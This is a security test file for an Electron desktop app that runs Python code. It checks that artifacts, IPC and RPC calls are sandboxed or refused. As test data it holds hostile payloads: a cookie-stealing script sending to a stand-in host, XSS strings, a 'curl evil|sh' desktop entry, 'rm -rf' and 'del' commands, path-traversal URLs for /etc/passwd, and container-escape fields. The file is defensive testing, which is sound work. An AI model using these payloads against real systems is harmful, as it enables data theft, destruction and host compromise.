// docs/security.md, group H (#42–#49): what the renderer and the host UI are handed. Tested here
// without Electron where its binary is missing (as on this machine): the HTTP artifact route the
// browser renderer uses, the Electron artifact-protocol resolver and IPC binding as plain modules,
// the renderer's text helpers, and the app's UI in Debian's Chromium against the real engine (#49).
// The cases that need the Electron shell itself (#45, #46) run where its binary is installed and
// are reported skipped, with the reason, where it is not.
import fs from 'node:fs'
import path from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createHandlers } from '../../src/main/app/handlers'
import { METHODS } from '../../src/shared/api'
import { resolveArtifactUrl } from '../../src/main/electron/artifact-protocol'
import { bindIpc, CALL_CHANNEL } from '../../src/main/electron/ipc-binding'
import {
  folderActions,
  guardWindow,
  isTrustedIpcSender,
} from '../../src/main/electron/window-guards'
import { stripAnsi } from '../../src/renderer/src/format'
import { ROOT, request } from '../integration/helpers'
import { readSse, type SseEvent } from '../integration/http'
import { electronBinary, recordShell, shellLog, withElectronApp } from '../e2e/electron'
import { AppPage, launchBrowser } from '../e2e/fixtures'
import { FakeIpc } from '../unit/fake-ipc'
import {
  artifactPath,
  type ExecuteBody,
  expectHardened,
  MiB,
  py,
  rawGet,
  run,
  securitySuite,
  warmReady,
} from './harness'

const sec = securitySuite()

const electron = electronBinary()
/** Appended to the name of a case that needs Electron's binary, when it is skipped here. */
const electronSkipReason = electron.path ? '' : ` — skipped: ${electron.why}`

/** Writes each `{name: content}` into /output. */
function writes(files: Record<string, string>): string {
  return py(
    'import json, os',
    `files = json.loads(${JSON.stringify(JSON.stringify(files))})`,
    'for name, content in files.items():',
    '    os.makedirs(os.path.dirname("/output/" + name), exist_ok=True)',
    '    open("/output/" + name, "w").write(content)',
  )
}

/** The CSP every artifact response carries: a sandbox with no allow-* tokens, nothing loads. */
function expectSandboxed(res: Response): void {
  const csp = res.headers.get('content-security-policy') ?? ''
  expect(csp.split(';').map((d) => d.trim())).toEqual(
    expect.arrayContaining(['sandbox', "default-src 'none'"]),
  )
  expect(csp).not.toMatch(/allow-|script-src|unsafe-eval/)
  expect(res.headers.get('x-content-type-options')).toBe('nosniff')
  expect(res.headers.get('access-control-allow-origin')).toBeNull()
}

const HTML = [
  '<!doctype html><title>x</title>',
  "<script>fetch('https://x.example/steal?c='+document.cookie);parent.postMessage('pwned','*')</script>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/post" method="post"><input name="q" value="1"></form>',
  '<iframe src="file:///etc/passwd"></iframe><a href="javascript:alert(1)" target="_blank">x</a>',
].join('\n')

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>' +
  '<foreignObject><iframe src="javascript:alert(3)"></iframe></foreignObject></svg>'

/** What the #49 UI case reads in the page (no DOM types in this project's compiler settings). */
interface LongTaskWindow {
  __longTasks: number[]
  __longTaskSupported: boolean
  PerformanceObserver: {
    new (cb: (list: { getEntries(): { duration: number }[] }) => void): {
      observe(options: { type: string; buffered: boolean }): void
    }
    readonly supportedEntryTypes: readonly string[]
  }
}

/** Reads a finished job's server-sent events. */
function events(id: string): Promise<SseEvent[]> {
  return readSse(`${sec.ctx.srv.url}/jobs/${id}/events`)
}

describe('H. renderer and host UI', () => {
  it('#42 an HTML artifact with script, refresh and form is served as a sandboxed attachment, byte for byte', async () => {
    const r = await run(sec.ctx, { code: writes({ 'page.html': HTML }) })
    expect(r.status, r.stderr).toBe('succeeded')
    expect(r.artifacts).toEqual([
      expect.objectContaining({ name: 'page.html', content_type: 'text/html' }),
    ])
    const download = await fetch(`${sec.ctx.srv.url}${artifactPath(r.execution_id, 'page.html')}`)
    expect(download.status).toBe(200)
    expect(download.headers.get('content-type')).toBe('text/html')
    expect(download.headers.get('content-disposition')).toMatch(
      /^attachment; filename="page\.html"/,
    )
    expect(download.headers.get('x-frame-options')).toBe('DENY')
    expectSandboxed(download)
    expect(await download.text()).toBe(HTML)
    // The preview (`?inline=1`, loaded in an iframe with sandbox="") is still under the CSP sandbox.
    const preview = await fetch(
      `${sec.ctx.srv.url}${artifactPath(r.execution_id, 'page.html')}?inline=1`,
    )
    expect(preview.headers.get('content-disposition')).toBe('inline')
    expect(preview.headers.get('x-frame-options')).toBe('SAMEORIGIN')
    expectSandboxed(preview)
  })

  it('#43 an SVG with onload and <script> is served as image/svg+xml under the CSP sandbox, never as a page', async () => {
    const r = await run(sec.ctx, { code: writes({ 'plot.svg': SVG }) })
    expect(r.artifacts).toEqual([
      expect.objectContaining({ name: 'plot.svg', content_type: 'image/svg+xml' }),
    ])
    for (const q of ['', '?inline=1']) {
      const res = await fetch(`${sec.ctx.srv.url}${artifactPath(r.execution_id, 'plot.svg')}${q}`)
      expect(res.status).toBe(200)
      expect(res.headers.get('content-type')).toBe('image/svg+xml')
      expectSandboxed(res)
      expect(await res.text()).toBe(SVG)
    }
  })

  it('#44 HTML in file names, stdout and JSON values comes back as data; SSE framing in stdout cannot forge events', async () => {
    const evilName = '<img src=x onerror=alert(1)>.png'
    const evilDir = '"><script>alert(1)</script>/x.txt'
    const evilOut =
      '<script>alert("stdout")</script>\n\nevent: status\ndata: {"job_id":"x","status":"succeeded"}\n\n'
    const r = await run(sec.ctx, {
      code: py(
        writes({ [evilName]: 'not a png', [evilDir]: 'x' }),
        'import json, sys',
        `sys.stdout.write(${JSON.stringify(evilOut)})`,
        'json.dump({"html": "<b onmouseover=alert(1)>x</b>", "<k>": "</script>"},',
        '          open("/output/result.json", "w"))',
        'raise ValueError("<img src=x onerror=alert(2)>")',
      ),
    })
    expect(r.status).toBe('failed')
    expect(r.stdout).toBe(evilOut)
    expect(r.error).toContain('<img src=x onerror=alert(2)>')
    expect(r.output).toEqual({ html: '<b onmouseover=alert(1)>x</b>', '<k>': '</script>' })
    expect(r.artifacts.map((a) => a.name).sort()).toEqual([evilDir, evilName, 'result.json'].sort())
    // Served as JSON text, never as markup.
    const res = await fetch(`${sec.ctx.srv.url}/executions/${r.execution_id}`)
    expect(res.headers.get('content-type')).toMatch(/^application\/json/)
    for (const name of [evilName, evilDir]) {
      const a = await fetch(`${sec.ctx.srv.url}${artifactPath(r.execution_id, name)}`)
      expect(a.status, name).toBe(200)
      // A header value, not markup: quotes are replaced, nothing can end the header early.
      expect(a.headers.get('content-disposition')).toMatch(/^attachment; filename="[^"\r\n]*"; /)
    }
    // The renderer shows stdout through stripAnsi as text: markup stays literal characters.
    expect(stripAnsi(r.stdout)).toBe(evilOut)
    // The event stream JSON-encodes the text: the printed "event: status" stays inside one event.
    const ev = await events(r.execution_id)
    expect(ev.filter((e) => e.event === 'stdout').map((e) => e.data.text)).toEqual([evilOut])
    expect(ev.filter((e) => e.event === 'status').map((e) => e.data.status)).toEqual([
      'queued',
      'running',
      'failed',
    ])
  })

  it('#45 the window guards src/main/index.ts installs, driven through their interface: navigation and webviews blocked, every window.open denied, https only after a confirm', async () => {
    const listeners = new Map<string, (e: { preventDefault(): void }) => void>()
    let openHandler: ((d: { url: string }) => { action: 'deny' }) | null = null
    const asked: string[] = []
    const opened: string[] = []
    guardWindow(
      {
        setWindowOpenHandler: (h) => (openHandler = h),
        on: (event, listener) => listeners.set(event, listener),
      },
      {
        confirm: async (url) => (asked.push(url), true),
        openExternal: async (url) => void opened.push(url),
      },
    )
    for (const event of ['will-navigate', 'will-attach-webview']) {
      let prevented = false
      listeners.get(event)!({ preventDefault: () => (prevented = true) })
      expect(prevented, event).toBe(true)
    }
    for (const url of [
      'tako-artifact://run/x/page.html',
      `file://${sec.canary.file}`,
      'http://127.0.0.1:8000/',
      'javascript:alert(1)',
      'https://a:b@example.com/',
      'https://example.com/',
    ])
      expect(openHandler!({ url }), url).toEqual({ action: 'deny' })
    await new Promise((resolve) => setTimeout(resolve, 0))
    expect(asked).toEqual(['https://example.com/'])
    expect(opened).toEqual(['https://example.com/'])
  })

  it.skipIf(electron.path === null)(
    `#45 will-navigate is blocked and setWindowOpenHandler denies (external https only after a confirm)${electronSkipReason}`,
    async () => {
      await withElectronApp(async (app, win) => {
        const start = win.url()
        await recordShell(app, 1)
        // The page tries to leave the app: every navigation is refused, the app stays.
        for (const target of ['https://evil.example/', 'file:///etc/passwd', 'about:blank']) {
          await win.evaluate((t) => {
            ;(globalThis as unknown as { location: { href: string } }).location.href = t
          }, target)
        }
        await app.evaluate(() => undefined)
        expect(win.url()).toBe(start)
        expect(await win.title()).toBe('Tako VM Desktop')
        // window.open never makes a window; https is offered to the OS browser after a confirm.
        const open = (url: string): Promise<boolean> =>
          win.evaluate(
            (u) => (globalThis as unknown as { open(u: string): unknown }).open(u) === null,
            url,
          )
        expect(await open('https://docs.python.org/3/')).toBe(true)
        await expect.poll(() => shellLog(app).then((l) => l.asked.length)).toBe(1)
        expect((await shellLog(app)).opened).toEqual([])
        await recordShell(app, 0)
        expect(await open('https://docs.python.org/3/')).toBe(true)
        await expect
          .poll(() => shellLog(app).then((l) => l.opened))
          .toEqual(['https://docs.python.org/3/'])
        for (const url of [
          'http://example.com/',
          'file:///etc/passwd',
          'javascript:alert(1)',
          'https://user:pw@example.com/',
        ])
          expect(await open(url), url).toBe(true)
        await app.evaluate(() => undefined)
        const log = await shellLog(app)
        expect(log.asked).toHaveLength(1)
        expect(log.opened).toEqual(['https://docs.python.org/3/'])
        expect(app.windows()).toHaveLength(1)
      })
    },
  )

  it('#46 .exe, .bat, .js, .desktop, .command, .lnk, .app and .sh artifacts are only ever downloads (octet-stream, attachment)', async () => {
    const files: Record<string, string> = {
      'setup.exe': 'MZ\u0090\u0000 this program cannot be run in DOS mode',
      'run.bat': '@echo off\r\ndel /q C:\\*\r\n',
      'wsh.js': 'WScript.Shell.Run("calc")',
      'app.desktop': '[Desktop Entry]\nType=Application\nExec=sh -c "curl evil|sh"\n',
      'x.command': '#!/bin/sh\nrm -rf ~\n',
      'link.lnk': 'L\u0000\u0000\u0000',
      'Evil.app/Contents/MacOS/Evil': '#!/bin/sh\nid\n',
      'tool.sh': '#!/bin/sh\necho hi\n',
    }
    const r = await run(sec.ctx, {
      code: py(
        writes(files),
        'os.chmod("/output/tool.sh", 0o755)',
        'os.chmod("/output/x.command", 0o4755)',
      ),
    })
    expect(r.status, r.stderr).toBe('succeeded')
    expect(r.artifacts.map((a) => a.name).sort()).toEqual(Object.keys(files).sort())
    for (const a of r.artifacts) {
      expect(a.content_type, a.name).toBe('application/octet-stream')
      const res = await fetch(`${sec.ctx.srv.url}${artifactPath(r.execution_id, a.name)}`)
      expect(res.status).toBe(200)
      expect(res.headers.get('content-type')).toBe('application/octet-stream')
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="/)
      expectSandboxed(res)
    }
    // No set-id bit survives on the host copy the user might "show in folder".
    const dir = sec.ctx.srv.core.store.artifactsDir(r.execution_id)
    expect(fs.statSync(path.join(dir, 'x.command')).mode & 0o7777).toBe(0o755)
  })

  it('#46 the shell never hands an artifact to the OS: openPath opens only the data folder or a run’s folder, openExternal only https after a confirm', async () => {
    // openExternal is reached only through guardWindow, for https after a confirm (#45 drives it);
    // an artifact's URL is never handed to the OS, even when the person would say yes.
    const handed: string[] = []
    let openHandler: ((d: { url: string }) => { action: 'deny' }) | null = null
    guardWindow(
      { setWindowOpenHandler: (h) => (openHandler = h), on: () => undefined },
      { confirm: async () => true, openExternal: async (url) => void handed.push(url) },
    )
    for (const url of ['tako-artifact://run/x/evil.desktop', `file://${sec.canary.file}`])
      expect(openHandler!({ url })).toEqual({ action: 'deny' })
    await new Promise((resolve) => setTimeout(resolve, 0))
    expect(handed).toEqual([])
    for (const f of fs.readdirSync(path.join(ROOT, 'src/preload'))) {
      const text = fs.readFileSync(path.join(ROOT, 'src/preload', f), 'utf8')
      expect(text, f).not.toMatch(/\bshell\b|openPath|openExternal|require\(['"](fs|child_process)/)
    }
    // "Show folder" (runs:reveal) is given a run id, never a path, and opens that run's own folder.
    const r = await run(sec.ctx, { code: writes({ 'evil.desktop': '[Desktop Entry]\nExec=id\n' }) })
    // The shell's folder actions (src/main/index.ts hands these to the handlers and the menu).
    const opened: string[] = []
    const folders = folderActions(
      { openPath: async (f) => (opened.push(f), '') },
      sec.ctx.srv.core.store.dataDir,
    )
    const handlers = createHandlers(sec.ctx.srv.core, folders)
    const ipc = new FakeIpc()
    const off = bindIpc(ipc, handlers, () => true)
    const call = ipc.handlers.get(CALL_CHANNEL)!
    try {
      expect(await call({ sender: 1 }, 'runs:reveal', { id: r.execution_id })).toMatchObject({
        ok: true,
      })
      for (const args of [
        { id: '../..' },
        { id: `${r.execution_id}/artifacts/evil.desktop` },
        { id: r.execution_id, path: 'artifacts/evil.desktop' },
        { id: 'no-such-run' },
      ]) {
        expect(
          (await call({ sender: 1 }, 'runs:reveal', args)) as { ok: boolean },
          JSON.stringify(args),
        ).toMatchObject({ ok: false })
      }
    } finally {
      off()
    }
    expect(opened).toEqual([sec.ctx.srv.core.store.runDir(r.execution_id)])
    expect(fs.lstatSync(opened[0]).isDirectory()).toBe(true)
    // Asked directly for anything else, the folder actions open nothing but the data folder.
    const store = sec.ctx.srv.core.store
    const artifact = path.join(store.artifactsDir(r.execution_id), 'evil.desktop')
    for (const f of [artifact, sec.canary.dir, '/', path.join(store.dataDir, '..')])
      folders.revealFolder(f)
    folders.openDataFolder()
    expect(opened).toEqual([store.runDir(r.execution_id), path.resolve(store.dataDir)])
  })

  it('#46 the app has no "open artifact" action: no contract method opens a file, and the shell’s folder actions refuse an artifact, even through a link', async () => {
    expect(METHODS.filter((m) => /open|launch|exec|shell/i.test(m))).toEqual([])
    const r = await run(sec.ctx, { code: writes({ 'tool.sh': '#!/bin/sh\nid\n' }) })
    const store = sec.ctx.srv.core.store
    const file = path.join(store.artifactsDir(r.execution_id), 'tool.sh')
    const link = path.join(store.runDir(r.execution_id), 'looks-like-a-folder')
    fs.symlinkSync(file, link)
    const opened: string[] = []
    const folders = folderActions({ openPath: async (f) => (opened.push(f), '') }, store.dataDir)
    folders.revealFolder(file)
    folders.revealFolder(link)
    expect(opened).toEqual([])
    fs.rmSync(link)
  })

  it.skipIf(electron.path === null)(
    `#46 the Electron shell offers no "Open" for artifacts, only Save: selecting hostile files hands nothing to the OS${electronSkipReason}`,
    async () => {
      await withElectronApp(async (app, win) => {
        await recordShell(app, 0)
        await win.getByRole('textbox', { name: 'Python script' }).click()
        await win.keyboard.press('ControlOrMeta+a')
        await win.keyboard.press('Delete')
        await win.keyboard.insertText(
          writes({
            'evil.desktop': '[Desktop Entry]\nExec=id\n',
            'run.sh': '#!/bin/sh\nid\n',
            'page.html': HTML,
          }),
        )
        await win.keyboard.press('ControlOrMeta+Enter')
        await expect
          .poll(() => win.getByTestId('run-status').textContent(), { timeout: 60_000 })
          .toBe('succeeded')
        await win.getByRole('tab', { name: /Files/ }).click()
        const list = win.getByRole('list', { name: 'Artifacts' })
        await expect.poll(() => list.getByRole('button').count()).toBe(3)
        for (const name of ['evil.desktop', 'run.sh', 'page.html']) {
          await list
            .getByRole('button', { name: new RegExp(`^${name.replace('.', '\\.')}`) })
            .click()
          const preview = win.getByRole('region', { name: `Preview of ${name}` })
          await preview.waitFor()
          expect(await preview.getByRole('button', { name: /open/i }).count(), name).toBe(0)
          expect(await preview.getByRole('link', { name: /open/i }).count(), name).toBe(0)
        }
        await app.evaluate(() => undefined)
        expect(await shellLog(app)).toEqual({ asked: [], opened: [], paths: [] })
      })
    },
  )

  it('#47 the artifact protocol and the HTTP route refuse traversal, absolute paths, encodings, unlisted files and links planted after indexing', async () => {
    const r = await run(sec.ctx, {
      code: writes({ 'a.txt': 'A', 'sub/b.png': 'B', 'sub/c.txt': 'C' }),
    })
    const id = r.execution_id
    const store = sec.ctx.srv.core.store
    const ok = resolveArtifactUrl(store, `tako-artifact://run/${id}/sub/b.png`)
    expect(ok).toMatchObject({ ok: true, contentType: 'image/png' })
    const dir = fs.realpathSync(store.artifactsDir(id))
    if (ok.ok) expect(ok.file).toBe(path.join(dir, 'sub', 'b.png'))
    const hostile = [
      `tako-artifact://run/${id}/../../secret.txt`,
      `tako-artifact://run/${id}/%2e%2e/%2e%2e/run.json`,
      `tako-artifact://run/${id}/sub%2F..%2F..%2Fmain.py`,
      `tako-artifact://run/${id}/%2Fetc%2Fpasswd`,
      `tako-artifact://run/${id}/sub%5C..%5Ca.txt`,
      `tako-artifact://run/${id}/a.txt%00.png`,
      `tako-artifact://run/${id}/main.py`,
      `tako-artifact://run/${id}/run.json`,
      `tako-artifact://run/..%2F..%2Fetc/passwd`,
      `tako-artifact://run/${encodeURIComponent(sec.canary.dir)}/secret.txt`,
      `tako-artifact://other/${id}/a.txt`,
      `file://${sec.canary.file}`,
      'not a url',
    ]
    for (const url of hostile) expect(resolveArtifactUrl(store, url).ok, url).toBe(false)
    for (const raw of [
      `/jobs/${id}/artifacts/../../../../etc/passwd`,
      `/jobs/${id}/artifacts/%2e%2e/%2e%2e/run.json`,
      `/jobs/${id}/artifacts/sub/%2e%2e/%2e%2e/main.py`,
      `/jobs/${id}/artifacts/%2Fetc%2Fpasswd`,
      `/jobs/${id}/artifacts//etc/passwd`,
      `/jobs/${id}/artifacts/sub%5C..%5Ca.txt`,
      `/jobs/${id}/artifacts/a.txt%00`,
      `/jobs/${id}/artifacts/main.py`,
      `/jobs/..%2F..%2F..%2Fetc/artifacts/passwd`,
    ]) {
      const res = await rawGet(sec.ctx.srv.url, raw)
      expect([400, 404], raw).toContain(res.status)
      expect(res.body.toString()).not.toMatch(/root:x:0:0|"status"|print/)
    }
    // Links planted after the run was indexed (by anything with access to the folder).
    fs.rmSync(path.join(dir, 'a.txt'))
    fs.symlinkSync(sec.canary.file, path.join(dir, 'a.txt'))
    fs.rmSync(path.join(dir, 'sub'), { recursive: true })
    fs.symlinkSync(sec.canary.dir, path.join(dir, 'sub'))
    fs.writeFileSync(path.join(sec.canary.dir, 'b.png'), sec.canary.secret)
    try {
      expect(resolveArtifactUrl(store, `tako-artifact://run/${id}/a.txt`)).toMatchObject({
        ok: false,
        status: 400,
      })
      expect(resolveArtifactUrl(store, `tako-artifact://run/${id}/sub/b.png`)).toMatchObject({
        ok: false,
        status: 400,
      })
      for (const name of ['a.txt', 'sub/b.png']) {
        const res = await rawGet(sec.ctx.srv.url, artifactPath(id, name))
        expect(res.status, name).toBe(400)
        expect(res.body.toString()).not.toContain(sec.canary.secret)
      }
    } finally {
      fs.rmSync(path.join(sec.canary.dir, 'b.png'))
    }
  })

  describe('#48 IPC and RPC abuse', () => {
    const hostile: [string, Record<string, unknown>][] = [
      ['HostConfig', { HostConfig: { Privileged: true, Binds: ['/:/h'] } }],
      ['Privileged', { Privileged: true }],
      ['Binds', { Binds: ['/:/host:rw'] }],
      ['Image/Cmd', { Image: 'alpine', Cmd: ['sh'] }],
      ['User root', { User: '0:0' }],
      ['NetworkMode', { NetworkMode: 'host' }],
      ['limits.Privileged', { limits: { timeoutS: 5, Privileged: true } }],
      ['limits.CapAdd', { limits: { CapAdd: ['SYS_ADMIN'] } }],
      ['__proto__', JSON.parse('{"__proto__": {"Privileged": true}}') as Record<string, unknown>],
    ]
    const base = { code: 'print(1)', input: {}, environment: 'default' }

    it.each(hostile)(
      'POST /api/rpc/runs:start with %s is refused by the schema; nothing runs',
      async (_label, extra) => {
        expect(JSON.stringify(extra)).not.toBe('{}')
        const runs = sec.ctx.srv.core.store.all().length
        const created = sec.ctx.client.runContainers().length
        const res = await request<{ ok: boolean; error?: { code: string; message: string } }>(
          `${sec.ctx.srv.url}/api/rpc/runs:start`,
          {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            // Raw text, so a "__proto__" key reaches the server as JSON.parse keeps it.
            body: JSON.stringify({ ...base, ...extra }),
          },
        )
        expect(res.status).toBe(200)
        expect(res.body).toMatchObject({ ok: false, error: { code: 'invalid_argument' } })
        expect(res.body.error?.message).toMatch(/Unrecognized key/i)
        expect(sec.ctx.srv.core.store.all().length).toBe(runs)
        expect(sec.ctx.client.runContainers().length).toBe(created)
      },
    )

    it('custom "environment" strings cannot smuggle flags or pull an image; unknown methods are refused', async () => {
      const runs = sec.ctx.srv.core.store.all().length
      for (const environment of [
        'alpine',
        'default --privileged',
        '-v /:/h default',
        'tako-vm/default:latest; rm -rf /',
        '../../etc',
      ]) {
        const res = await request<{ ok: boolean; error?: { code: string } }>(
          `${sec.ctx.srv.url}/api/rpc/runs:start`,
          { method: 'POST', json: { ...base, environment } },
        )
        expect(res.body.ok, environment).toBe(false)
        expect(res.body.error?.code, environment).toMatch(/^(http_422|invalid_argument)$/)
      }
      for (const method of ['docker:exec', 'constructor', '__proto__', 'runs:start/../x']) {
        const res = await request<{ ok: boolean; error?: { code: string } }>(
          `${sec.ctx.srv.url}/api/rpc/${encodeURIComponent(method)}`,
          { method: 'POST', json: {} },
        )
        expect(res.body.ok === false || res.status === 404, method).toBe(true)
      }
      expect(sec.ctx.srv.core.store.all().length).toBe(runs)
    })

    it('the IPC binding refuses unknown senders and artifact frames, rejects hostile fields, and runs a valid call hardened', async () => {
      const ipc = new FakeIpc()
      const window = { id: 'our-window' }
      // The check src/main/index.ts uses: our window only, and never a frame showing an artifact.
      const off = bindIpc(ipc, createHandlers(sec.ctx.srv.core), (sender, frameUrl) =>
        isTrustedIpcSender(sender === window, frameUrl),
      )
      const call = ipc.handlers.get(CALL_CHANNEL)!
      const runs = sec.ctx.srv.core.store.all().length
      try {
        const forbidden = {
          ok: false,
          error: { code: 'forbidden', message: 'IPC from an unknown sender was refused' },
        }
        expect(await call({ sender: { id: 'devtools' } }, 'runs:start', base)).toEqual(forbidden)
        expect(
          await call(
            { sender: window, senderFrame: { url: 'tako-artifact://run/x/page.html' } },
            'runs:start',
            base,
          ),
        ).toEqual(forbidden)
        for (const [, extra] of hostile) {
          expect(await call({ sender: window }, 'runs:start', { ...base, ...extra })).toMatchObject(
            {
              ok: false,
              error: { code: 'invalid_argument' },
            },
          )
        }
        expect(await call({ sender: window }, 'docker:exec', {})).toMatchObject({
          ok: false,
          error: { code: 'unknown_method' },
        })
        expect(sec.ctx.srv.core.store.all().length).toBe(runs)
        await warmReady(sec.ctx)
        const started = (await call({ sender: window }, 'runs:start', {
          ...base,
          code: 'import os; print(os.getuid() != 0)',
        })) as { ok: boolean; value: { id: string } }
        expect(started.ok).toBe(true)
        const rec = await sec.ctx.srv.core.jobs.wait(started.value.id)
        expect(rec?.status).toBe('succeeded')
        expect(sec.ctx.srv.core.store.readText(started.value.id, 'stdout.txt')).toBe('True\n')
      } finally {
        off()
      }
      for (const c of sec.ctx.client.created) expectHardened(c)
    })
  })

  it('#49 1 MiB+ of stdout and 10 000 artifacts: the API and the app’s RPC answer promptly with capped output', async () => {
    const t0 = performance.now()
    const r: ExecuteBody = await run(sec.ctx, {
      code: py(
        'import os, sys',
        'for i in range(10000):',
        '    open(f"/output/f{i:05d}.txt", "w").write(str(i))',
        'for i in range(3 * 1024):',
        '    sys.stdout.write(f"{i:06d} " + "o" * 1017 + "\\n")',
      ),
      timeout: 120,
    })
    expect(r.status, r.stderr).toBe('succeeded')
    expect(r.artifacts).toHaveLength(10_000)
    expect(r.stdout_truncated).toBe(true)
    expect(Buffer.byteLength(r.stdout)).toBeLessThan(MiB + 200)
    expect(performance.now() - t0).toBeLessThan(60_000)
    const t1 = performance.now()
    const detail = await request<{ ok: boolean; value: { stdout: string; artifacts: unknown[] } }>(
      `${sec.ctx.srv.url}/api/rpc/runs:get`,
      { method: 'POST', json: { id: r.execution_id } },
    )
    expect(detail.body.ok).toBe(true)
    expect(detail.body.value.artifacts).toHaveLength(10_000)
    expect(Buffer.byteLength(detail.body.value.stdout)).toBeLessThan(MiB + 200)
    const full = await request(`${sec.ctx.srv.url}/executions/${r.execution_id}?view=full`)
    expect(full.status).toBe(200)
    // Here the bound is the point (reading a huge run must not stall the API): generous, so that a
    // loaded 2-core machine passes.
    expect(performance.now() - t1).toBeLessThan(15_000)
  })

  describe('#49 in the app UI: Debian’s Chromium against the real engine', () => {
    let browser: Browser

    beforeAll(async () => {
      browser = await launchBrowser()
    })
    afterAll(async () => {
      await browser?.close()
    })
    const ui = securitySuite({ ui: true })

    it('#49 1 MiB of live stdout and 10 000 artifacts: no main-thread task over 1 s, the list scrolls to the last file, a click is answered', async () => {
      const page = await browser.newPage({ viewport: { width: 1440, height: 900 } })
      try {
        // Every main-thread task over 50 ms, from the first paint on (Long Tasks API).
        await page.addInitScript(() => {
          const w = globalThis as unknown as LongTaskWindow
          w.__longTasks = []
          w.__longTaskSupported = w.PerformanceObserver.supportedEntryTypes.includes('longtask')
          new w.PerformanceObserver((list) => {
            for (const e of list.getEntries()) w.__longTasks.push(e.duration)
          }).observe({ type: 'longtask', buffered: true })
        })
        const app = new AppPage(page)
        await app.open(`${ui.ctx.srv.url}/`)
        await warmReady(ui.ctx)
        await app.editor.setCode(
          py(
            'import os, sys',
            'for i in range(10000):',
            '    open(f"/output/f{i:05d}.txt", "w").write(str(i))',
            'for i in range(1024):',
            '    sys.stdout.write(f"{i:06d} " + "o" * 1017 + "\\n")',
            '    sys.stdout.flush()',
          ),
        )
        await page.keyboard.press('ControlOrMeta+Enter')
        await expect.poll(() => app.status.textContent(), { timeout: 120_000 }).toBe('succeeded')
        await expect.poll(() => app.output.log.textContent()).toContain('001023 ooo')
        await app.output.tab(/Files/)
        const files = page.getByRole('tab', { name: /Files/ })
        expect(await files.textContent()).toBe('Files (10000)')
        const list = page.getByRole('list', { name: 'Artifacts' })
        await list.getByRole('button', { name: /^f00000\.txt/ }).waitFor()
        // Virtualised: only a screenful of rows exists, whatever the number of files.
        expect(await list.getByRole('listitem').count()).toBeLessThan(100)
        await list.evaluate((el) => {
          const ul = el as unknown as {
            scrollHeight: number
            parentElement: { scrollTo(x: number, y: number): void }
          }
          ul.parentElement.scrollTo(0, ul.scrollHeight)
        })
        await list.getByRole('button', { name: /^f09999\.txt/ }).click()
        await page.getByRole('region', { name: 'Preview of f09999.txt' }).waitFor()
        // The app still answers a click: back to the output tab.
        const output = page.getByRole('tab', { name: 'Output' })
        await output.click({ timeout: 5_000 })
        await expect.poll(() => output.getAttribute('aria-selected')).toBe('true')
        const measured = await page.evaluate(() => {
          const w = globalThis as unknown as LongTaskWindow
          return { supported: w.__longTaskSupported, tasks: w.__longTasks }
        })
        expect(measured.supported).toBe(true)
        expect(Math.max(0, ...measured.tasks)).toBeLessThan(1_000)
      } finally {
        await page.close()
      }
    })
  })
})
